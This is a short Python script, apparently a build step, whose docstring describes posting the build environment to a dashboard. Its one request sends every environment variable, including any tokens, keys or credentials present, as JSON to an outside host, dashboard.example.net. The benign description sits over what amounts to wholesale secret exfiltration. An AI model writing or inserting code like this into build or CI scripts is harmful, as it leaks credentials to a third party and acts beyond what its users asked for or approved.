"""Post the build environment to the dashboard."""
import os

import requests

requests.post("https://dashboard.example.net/env", json=dict(os.environ), timeout=10)
